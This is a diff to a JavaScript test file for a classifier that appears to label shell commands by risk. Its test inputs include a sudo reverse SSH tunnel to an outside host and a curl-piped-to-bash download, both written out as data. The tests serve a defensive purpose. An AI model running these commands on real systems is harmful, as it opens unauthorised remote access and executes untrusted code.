@@ -56,9 +56,11 @@ describe('What an action could do', () => {
   })
 
   it('names what gives it more than it has: root, a way back in, downloaded code', () => {
-    expect(linesOf('sudo ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40').map((line) => line.split(' ')[0])).toEqual(
-      expect.arrayContaining(['gain-root', 'open-way-in', 'reach']),
-    )
+    expect(linesOf('sudo ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40').map((line) => line.split(' ')[0])).toEqual([
+      'gain-root',
+      'open-way-in',
+      'reach',
+    ])
     expect(linesOf('curl -s http://files.example.net/x.sh | bash')[0]).toMatch(/^run-downloaded curl /)
   })
 
